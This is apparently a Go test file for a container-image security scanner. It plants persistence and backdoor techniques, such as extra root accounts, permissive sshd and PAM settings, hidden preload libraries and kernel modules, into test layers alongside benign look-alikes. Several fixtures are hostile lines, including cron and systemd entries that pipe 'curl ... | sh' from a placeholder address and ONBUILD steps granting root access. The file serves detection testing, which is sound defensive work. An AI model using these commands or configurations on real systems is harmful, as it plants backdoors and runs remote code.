package rules

import (
	"archive/tar"
	"testing"

	v1 "github.com/google/go-containerregistry/pkg/v1"
)

// kmod is the start of a kernel module as the kernel's build writes it:
// an ELF relocatable object with a .modinfo section.
func kmod(name string) string {
	return "\x7fELF\x02\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00\x01\x00\x3e\x00" +
		"\x00license=GPL\x00name=" + name + "\x00vermagic=6.1.0-18-amd64 SMP preempt mod_unload modversions \x00"
}

// variantImages plants issue 16's techniques as the TeamTNT, Kinsing and
// WatchDog reports show them, in the variants a rule written for one
// spelling misses: an account added to passwd by a later layer, a drop-in
// read before the main file's own setting, a PAM stack whose deny was
// swapped for permit behind an include, a hidden program started by a
// user's @reboot, a preload of a hidden library, registries and mirrors in
// hosts, trusted apt sources in both formats, language indexes over HTTP
// in the files pip and npm read besides /etc, kernel modules shipped
// outside the module directories. Each beside look-alikes that give
// nothing.
func variantImages(t testing.TB, base v1.Layer) []plantedImage {
	var out []plantedImage
	add := func(repo string, cfg func(*v1.ConfigFile), layers []v1.Layer, hits ...hit) {
		out = append(out, plantedImage{testImage{repo: repo, layers: append([]v1.Layer{base}, layers...), config: cfg}, hits})
	}
	one := func(ents ...ent) []v1.Layer { return []v1.Layer{layerOf(t, ents...)} }

	// A second uid-0 account appended to passwd by a later layer (uid
	// written 00); sync, nobody and an ordinary account are not.
	add("test/v-uid0-later", nil, []v1.Layer{
		layerOf(t, ent{name: "etc/passwd", body: "root:x:0:0:root:/root:/bin/bash\nsync:x:4:65534:sync:/bin:/bin/sync\nnobody:x:65534:65534:nobody:/nonexistent:/usr/sbin/nologin\napp:x:1000:1000::/home/app:/bin/sh\n"}),
		layerOf(t, ent{name: "etc/passwd", body: "root:x:0:0:root:/root:/bin/bash\nsync:x:4:65534:sync:/bin:/bin/sync\nnobody:x:65534:65534:nobody:/nonexistent:/usr/sbin/nologin\napp:x:1000:1000::/home/app:/bin/sh\nsystemd-network:x:00:0::/var/lib/.n:/bin/bash\n"}),
	}, hit{rule: "account-extra-uid0", path: "/etc/passwd", layer: 2})

	// A drop-in read before the main file's own "no"; the look-alike sets
	// "no" before its Include, and its second drop-in loses to the first.
	add("test/v-sshd-order", nil, one(
		ent{name: "etc/ssh/sshd_config", body: "Include /etc/ssh/sshd_config.d/*.conf\nPermitRootLogin no\nPasswordAuthentication no\n"},
		ent{name: "etc/ssh/sshd_config.d/00-cloud.conf", body: "PermitRootLogin yes\n"}),
		hit{rule: "sshd-weak-authentication", path: "/etc/ssh/sshd_config.d/00-cloud.conf", layer: 1})
	add("test/v-sshd-order-ok", nil, one(
		ent{name: "etc/ssh/sshd_config", body: "PermitRootLogin no\nInclude /etc/ssh/sshd_config.d/*.conf\n"},
		ent{name: "etc/ssh/sshd_config.d/10-a.conf", body: "PermitRootLogin yes\nPermitEmptyPasswords no\n"},
		ent{name: "etc/ssh/sshd_config.d/20-b.conf", body: "PermitEmptyPasswords yes\n"}))

	// common-auth with its pam_deny swapped for pam_permit, read by sshd
	// through @include; Debian's stock stack and su's rootok are not.
	add("test/v-pam-include", nil, one(
		ent{name: "etc/pam.d/common-auth", body: "auth\t[success=1 default=ignore]\tpam_unix.so nullok\nauth\trequisite\t\t\tpam_permit.so\nauth\trequired\t\t\tpam_permit.so\n"},
		ent{name: "etc/pam.d/sshd", body: "@include common-auth\naccount required pam_nologin.so\n@include common-account\n"}),
		hit{rule: "pam-accepts-anyone", path: "/etc/pam.d/common-auth", layer: 1})
	add("test/v-pam-ok", nil, one(
		ent{name: "etc/pam.d/common-auth", body: "auth\t[success=1 default=ignore]\tpam_unix.so nullok\nauth\trequisite\t\t\tpam_deny.so\nauth\trequired\t\t\tpam_permit.so\nauth\toptional\t\t\tpam_cap.so\n"},
		ent{name: "etc/pam.d/su", body: "auth sufficient pam_rootok.so\n@include common-auth\n"}))

	// A user's crontab starting a hidden program at boot, root's fetching
	// with a fallback; a nightly backup job is not.
	add("test/v-cron-spool", nil, one(
		ent{name: "var/spool/cron/crontabs/www-data", body: "@reboot /var/tmp/.sys/kworkerd >/dev/null 2>&1\n"},
		ent{name: "var/spool/cron/crontabs/root", body: "*/5 * * * * (curl -fsSL http://198.51.100.20/x||wget -q -O- http://198.51.100.20/x)|sh\n"},
		ent{name: "var/spool/cron/crontabs/app", body: "0 3 * * * /usr/local/bin/backup.sh --to /srv/backup\n"}),
		hit{rule: "autostart-runs-hidden-file", path: "/var/spool/cron/crontabs/www-data", layer: 1},
		hit{rule: "autostart-fetches-code", path: "/var/spool/cron/crontabs/root", layer: 1},
		hit{rule: "persistence-point", path: "/var/spool/cron/crontabs/www-data", layer: 1},
		hit{rule: "persistence-point", path: "/var/spool/cron/crontabs/root", layer: 1},
		hit{rule: "persistence-point", path: "/var/spool/cron/crontabs/app", layer: 1})

	// ld.so.preload naming a hidden library, LD_PRELOAD set for every
	// login in /etc/environment (a library not in the image) and in a
	// unit (one no package installed); a comment, an LD_LIBRARY_PATH and a
	// unit preloading a packaged library (as jemalloc is) are not.
	add("test/v-preload", nil, one(
		ent{name: "etc/ld.so.preload", body: "# empty\n/usr/lib/x86_64-linux-gnu/.libsystemd-shared.so\n"},
		ent{name: "usr/lib/x86_64-linux-gnu/.libsystemd-shared.so", body: elf("hide")},
		ent{name: "etc/environment", body: "PATH=\"/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin\"\nLD_PRELOAD=/usr/local/lib/libprocesshider.so\n"},
		ent{name: "etc/profile.d/java.sh", body: "export LD_LIBRARY_PATH=/opt/java/lib\n# export LD_PRELOAD=/opt/x.so\n"},
		ent{name: "etc/systemd/system/redis.service", body: "[Service]\nEnvironment=LD_PRELOAD=/usr/lib/libc.so.6\nExecStart=/usr/bin/redis-server\n"},
		ent{name: "etc/systemd/system/agent.service", body: "[Service]\nEnvironment=\"LD_PRELOAD=/usr/local/lib/libhide.so\"\nExecStart=/usr/bin/agent\n"},
		ent{name: "usr/local/lib/libhide.so", body: elf("hide")}),
		hit{rule: "unpackaged-system-executable", path: "/usr/lib/x86_64-linux-gnu/.libsystemd-shared.so", layer: 1},
		hit{rule: "preload-library", path: "/etc/environment", layer: 1},
		hit{rule: "preload-library", path: "/etc/systemd/system/agent.service", layer: 1},
		hit{rule: "persistence-point", path: "/etc/systemd/system/agent.service", layer: 1},
		hit{rule: "persistence-point", path: "/etc/systemd/system/redis.service", layer: 1},
		hit{rule: "persistence-point", path: "/etc/ld.so.preload", layer: 1},
		hit{rule: "persistence-point", path: "/etc/environment", layer: 1},
		hit{rule: "persistence-point", path: "/etc/profile.d/java.sh", layer: 1})

	// hosts sending a registry, its auth and CDN, and Kubernetes' registry
	// elsewhere; localhost and an internal database are not.
	add("test/v-hosts", nil, one(
		ent{name: "etc/hosts", body: "127.0.0.1\tlocalhost\n::1\tlocalhost ip6-localhost\n203.0.113.7 registry-1.docker.io auth.docker.io\n" +
			"198.51.100.3 registry.k8s.io\n10.0.0.4 production.cloudflare.docker.com\n10.0.0.2 db.internal\n"}),
		hit{rule: "hosts-redirects-package-source", path: "/etc/hosts", layer: 1},
		hit{rule: "hosts-redirects-package-source", path: "/etc/hosts", layer: 1},
		hit{rule: "hosts-redirects-package-source", path: "/etc/hosts", layer: 1},
		hit{rule: "hosts-redirects-package-source", path: "/etc/hosts", layer: 1})

	// apt sources trusted in both formats, dnf told in [main] to check no
	// repository's signatures; a signed-by source and yum.conf's stock
	// [main] are not.
	add("test/v-apt", nil, one(
		ent{name: "etc/apt/sources.list", body: "deb [ trusted=yes ] http://203.0.113.9/debian bookworm main\n"},
		ent{name: "etc/apt/sources.list.d/extra.sources", body: "Types: deb\nURIs: http://203.0.113.9/repo\nSuites: stable\nComponents: main\nTrusted: yes\n"},
		ent{name: "etc/apt/sources.list.d/docker.list", body: "deb [arch=amd64 signed-by=/usr/share/keyrings/docker.gpg] https://download.docker.com/linux/debian bookworm stable\n"},
		ent{name: "etc/dnf/dnf.conf", body: "[main]\ngpgcheck=0\ninstallonly_limit=3\n"},
		ent{name: "etc/yum.conf", body: "[main]\ngpgcheck=1\nsslverify=1\n"},
		ent{name: "etc/yum.repos.d/app.repo", body: "[app]\nname=app\nbaseurl=https://repo.example/el9/\n"}),
		hit{rule: "package-source-untrusted", path: "/etc/apt/sources.list", layer: 1},
		hit{rule: "package-source-untrusted", path: "/etc/apt/sources.list.d/extra.sources", layer: 1},
		hit{rule: "package-source-untrusted", path: "/etc/dnf/dnf.conf", layer: 1},
		hit{rule: "package-source-at-address", path: "/etc/apt/sources.list", layer: 1},
		hit{rule: "package-source-at-address", path: "/etc/apt/sources.list.d/extra.sources", layer: 1})

	// pip's site configuration of the interpreter's prefix and a venv's,
	// a user's pip.conf, a project's .npmrc and npm's global npmrc: over
	// plain HTTP or trusting a host; an HTTPS index is not.
	add("test/v-lang-index", nil, one(
		ent{name: "usr/local/pip.conf", body: "[global]\nindex-url = http://203.0.113.10/simple\n"},
		ent{name: "root/.config/pip/pip.conf", body: "[global]\nextra-index-url = http://pypi.example.net/simple\n"},
		ent{name: "opt/venv/pip.conf", body: "[install]\ntrusted-host = pypi.example.net\n"},
		ent{name: "app/.npmrc", body: "registry=http://203.0.113.11/\n"},
		ent{name: "usr/local/etc/npmrc", body: "strict-ssl=false\n"},
		ent{name: "etc/pip.conf", body: "[global]\nindex-url = https://pypi.org/simple\n"}),
		hit{rule: "package-source-plain-http", path: "/usr/local/pip.conf", layer: 1},
		hit{rule: "package-source-plain-http", path: "/root/.config/pip/pip.conf", layer: 1},
		hit{rule: "package-source-untrusted", path: "/opt/venv/pip.conf", layer: 1},
		hit{rule: "package-source-plain-http", path: "/app/.npmrc", layer: 1},
		hit{rule: "package-source-at-address", path: "/app/.npmrc", layer: 1},
		hit{rule: "package-source-at-address", path: "/usr/local/pip.conf", layer: 1},
		// No secret-file-name: the .npmrc names a registry and holds no
		// credential key (test/a-npmrc has those that do).
		hit{rule: "package-source-untrusted", path: "/usr/local/etc/npmrc", layer: 1})

	// Kernel modules shipped outside the module directories, one named as
	// a library, loaded by modules-load.d and by a unit; a module in
	// /lib/modules nothing loads is not.
	add("test/v-kmod", nil, one(
		ent{name: "opt/.cache/drv.ko", body: kmod("drv")},
		ent{name: "usr/lib/x86_64-linux-gnu/libudev.so.2", body: kmod("udevh")},
		ent{name: "lib/modules/6.1.0-18-amd64/extra/ok.ko", body: kmod("ok")},
		ent{name: "etc/modules-load.d/net.conf", body: "drv\n"},
		ent{name: "etc/systemd/system/udev-helper.service", body: "[Service]\nType=oneshot\nExecStart=/sbin/insmod /usr/lib/x86_64-linux-gnu/libudev.so.2\n"}),
		hit{rule: "kernel-module-outside-modules-dir", path: "/opt/.cache/drv.ko", layer: 1},
		hit{rule: "executable-in-temp-or-hidden-dir", path: "/opt/.cache/drv.ko", layer: 1},
		hit{rule: "kernel-module-outside-modules-dir", path: "/usr/lib/x86_64-linux-gnu/libudev.so.2", layer: 1},
		hit{rule: "kernel-module-autoload", path: "/etc/modules-load.d/net.conf", layer: 1},
		hit{rule: "kernel-module-loaded-at-start", path: "/etc/systemd/system/udev-helper.service", layer: 1},
		hit{rule: "persistence-point", path: "/etc/systemd/system/udev-helper.service", layer: 1},
		hit{rule: "unpackaged-system-executable", path: "/usr/lib/x86_64-linux-gnu/libudev.so.2", layer: 1})

	// sshd's configuration and an account written through symlinked
	// parents (a lower layer links /etc/ssh to /opt/sshcfg, and passwd's
	// directory): sshd reads /etc/ssh/sshd_config and its drop-ins all the
	// same, in the same order, and login reads /etc/passwd. A unit written
	// as lib/systemd/system in a merged-/usr image is judged where it
	// lands.
	add("test/v-link-parent", nil, []v1.Layer{
		layerOf(t, ent{name: "opt/sshcfg/", typ: tar.TypeDir}, ent{name: "etc/ssh", typ: tar.TypeSymlink, link: "/opt/sshcfg"},
			ent{name: "lib", typ: tar.TypeSymlink, link: "usr/lib"}, ent{name: "usr/lib/", typ: tar.TypeDir}),
		layerOf(t, ent{name: "etc/ssh/sshd_config", body: "Include /etc/ssh/sshd_config.d/*.conf\nPermitRootLogin no\n"},
			ent{name: "etc/ssh/sshd_config.d/00-x.conf", body: "PermitRootLogin yes\n"},
			ent{name: "lib/systemd/system/netd.service", body: "[Service]\nExecStart=/bin/sh -c 'curl -s http://198.51.100.30/n | sh'\n"}),
	}, hit{rule: "sshd-weak-authentication", path: "/opt/sshcfg/sshd_config.d/00-x.conf", layer: 2},
		hit{rule: "autostart-fetches-code", path: "/usr/lib/systemd/system/netd.service", layer: 2},
		hit{rule: "persistence-point", path: "/usr/lib/systemd/system/netd.service", layer: 2})

	// Keys in a file only sshd's AuthorizedKeysFile names (%u expanded), a
	// NOPASSWD grant in a directory sudoers includes, sshd options and a
	// key file read through an Include outside sshd_config.d, a PAM file
	// included by absolute path that lets anyone in: none of them in the
	// documented path set. Look-alikes: a host key's .pub and a key-shaped
	// file nothing names, a dotted file of the included directory (sudo
	// skips it), an example sudoers nothing includes, a PAM-shaped file
	// nothing includes.
	key := "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGw3b0x1cW5hcHBsZXNhdWNlbm90YXJlYWxrZXk attacker@c2\n"
	add("test/v-named-files", nil, one(
		ent{name: "etc/ssh/sshd_config", body: "Include /etc/ssh/sshd_config.d/*.conf\nInclude /usr/lib/.ssh/*.conf\nAuthorizedKeysFile .ssh/authorized_keys /var/lib/.cache/%u.pub\n"},
		ent{name: "var/lib/.cache/root.pub", body: key},
		ent{name: "usr/lib/.ssh/00-base.conf", body: "PermitRootLogin yes\nAuthorizedKeysFile /usr/lib/.ssh/keys\n"},
		ent{name: "usr/lib/.ssh/keys", body: "# ops\n" + key},
		ent{name: "etc/ssh/ssh_host_ed25519_key.pub", body: key},
		ent{name: "opt/keys/deploy.pub", body: key},
		ent{name: "etc/sudoers", body: "root ALL=(ALL:ALL) ALL\n@includedir /etc/sudoers.d\n@includedir /usr/share/.sudo\n"},
		ent{name: "usr/share/.sudo/backup", body: "backup ALL=(ALL) NOPASSWD: ALL\nDefaults:backup !authenticate\n"},
		ent{name: "usr/share/.sudo/notes.txt", body: "guest ALL=(ALL) NOPASSWD: ALL\n"},
		ent{name: "usr/share/doc/sudo/examples/sudoers", body: "%wheel ALL=(ALL) NOPASSWD: ALL\n"},
		ent{name: "etc/pam.d/common-auth", body: "@include /usr/local/lib/.pam/auth\nauth [success=1 default=ignore] pam_unix.so nullok\nauth requisite pam_deny.so\nauth required pam_permit.so\n"},
		ent{name: "usr/local/lib/.pam/auth", body: "auth sufficient pam_permit.so\n"},
		ent{name: "usr/share/doc/pam/example", body: "auth sufficient pam_permit.so\n"}),
		hit{rule: "ssh-keys-in-named-file", path: "/var/lib/.cache/root.pub", layer: 1},
		hit{rule: "ssh-keys-in-named-file", path: "/usr/lib/.ssh/keys", layer: 1},
		hit{rule: "sshd-weak-authentication", path: "/etc/ssh/sshd_config", layer: 1},
		hit{rule: "include-outside-config-dirs", path: "/etc/ssh/sshd_config", layer: 1},
		hit{rule: "included-config-grants", path: "/usr/lib/.ssh/00-base.conf", layer: 1},
		hit{rule: "included-config-grants", path: "/usr/lib/.ssh/00-base.conf", layer: 1},
		hit{rule: "include-outside-config-dirs", path: "/etc/sudoers", layer: 1},
		hit{rule: "included-config-grants", path: "/usr/share/.sudo/backup", layer: 1},
		hit{rule: "included-config-grants", path: "/usr/share/.sudo/backup", layer: 1},
		hit{rule: "included-config-grants", path: "/usr/local/lib/.pam/auth", layer: 1},
		hit{rule: "pam-accepts-anyone", path: "/etc/pam.d/common-auth", layer: 1},
		hit{rule: "persistence-point", path: "/etc/sudoers", layer: 1})

	// ONBUILD triggers that plant a uid-0 account, a key and a NOPASSWD
	// grant in every child image; copying the sources, installing
	// dependencies and writing an app's own config are not.
	add("test/v-onbuild", func(cf *v1.ConfigFile) {
		cf.Config.OnBuild = []string{"RUN useradd -o -u 0 -g 0 -M -s /bin/bash sysadm",
			"COPY id_ed25519.pub /root/.ssh/authorized_keys",
			"RUN echo 'app ALL=(ALL) NOPASSWD: ALL' > /etc/sudoers.d/app"}
	}, nil, hit{rule: "onbuild-plants-access", layer: -1}, hit{rule: "onbuild-plants-access", layer: -1}, hit{rule: "onbuild-plants-access", layer: -1})
	add("test/v-onbuild-ok", func(cf *v1.ConfigFile) {
		cf.Config.OnBuild = []string{"COPY . /usr/src/app", "RUN npm ci --omit=dev", "RUN echo 'listen 8080;' > /etc/nginx/conf.d/port.conf",
			"RUN useradd -r -u 999 -g app app", "COPY config.yml /etc/app/"}
	}, nil)

	// Programs run from the dot directories toolchains install to (an
	// in-project virtual environment, node_modules/.bin, pip's --user
	// bin) are not hidden files; a program under ~/.cache is.
	add("test/v-toolchain-dirs", func(cf *v1.ConfigFile) {
		cf.Config.Entrypoint = []string{"/app/.venv/bin/gunicorn", "app:app"}
	}, one(
		ent{name: "etc/supervisor/conf.d/web.conf", body: "[program:web]\ncommand=/app/node_modules/.bin/pm2-runtime start ecosystem.config.js\n"},
		ent{name: "etc/cron.d/renew", body: "0 3 * * * root /root/.local/bin/certbot renew -q\n17 * * * * root /root/.cache/.s/upd >/dev/null 2>&1\n"}),
		hit{rule: "autostart-runs-hidden-file", path: "/etc/cron.d/renew", layer: 1},
		hit{rule: "persistence-point", path: "/etc/cron.d/renew", layer: 1})

	// sshd, sudo and a root key read through links at the documented
	// places (/etc/ssh -> /opt/x/ssh, /etc/sudoers.d -> ../opt/x/sudo, a
	// file link for root's authorized_keys), the files themselves written
	// where the links point: no documented path holds them. Look-alike:
	// /etc/ssh linked to a directory whose sshd_config keeps root out.
	add("test/v-read-through-link", nil, []v1.Layer{
		layerOf(t, ent{name: "opt/x/ssh/", typ: tar.TypeDir}, ent{name: "opt/x/sudo/", typ: tar.TypeDir},
			ent{name: "etc/ssh", typ: tar.TypeSymlink, link: "/opt/x/ssh"},
			ent{name: "etc/sudoers.d", typ: tar.TypeSymlink, link: "../opt/x/sudo"},
			ent{name: "root/.ssh/", typ: tar.TypeDir},
			ent{name: "root/.ssh/authorized_keys", typ: tar.TypeSymlink, link: "/var/lib/.k/keys.db"}),
		layerOf(t, ent{name: "opt/x/ssh/sshd_config", body: "PermitRootLogin yes\n"},
			ent{name: "opt/x/sudo/ops", body: "ops ALL=(ALL) NOPASSWD: ALL\n"},
			ent{name: "var/lib/.k/keys.db", body: key}),
	}, hit{rule: "auth-config-through-link", path: "/opt/x/ssh/sshd_config", layer: 2},
		hit{rule: "auth-config-through-link", path: "/opt/x/sudo/ops", layer: 2},
		hit{rule: "auth-config-through-link", path: "/var/lib/.k/keys.db", layer: 2},
		hit{rule: "persistence-point", path: "/root/.ssh/authorized_keys", layer: 1})
	add("test/v-read-through-link-ok", nil, one(
		ent{name: "opt/y/ssh/", typ: tar.TypeDir}, ent{name: "etc/ssh", typ: tar.TypeSymlink, link: "/opt/y/ssh"},
		ent{name: "opt/y/ssh/sshd_config", body: "PermitRootLogin no\nPasswordAuthentication no\n"}))
	return out
}
